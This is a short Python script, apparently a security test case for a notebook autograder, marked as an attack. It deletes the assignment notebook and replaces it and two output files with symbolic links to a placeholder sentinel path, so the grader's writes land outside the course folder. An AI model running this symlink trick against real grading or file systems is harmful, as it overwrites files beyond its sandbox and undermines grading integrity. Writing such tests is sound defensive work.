# @right
# Attack: replace this notebook's file in the kernel's working folder with a
# symbolic link to a file outside the course (the sentinel): the grader writes
# the autograded notebook through it.
import os

try:
    if os.path.lexists("01_threads.ipynb"):
        os.remove("01_threads.ipynb")
    os.symlink("@@SENTINEL@@", "01_threads.ipynb")
    for name in ("01_threads.html", "timestamp.txt"):
        if not os.path.lexists(name):
            os.symlink("@@SENTINEL@@", name)
    print("linked")
except Exception as exc:  # noqa: BLE001
    print("attack failed:", type(exc).__name__)
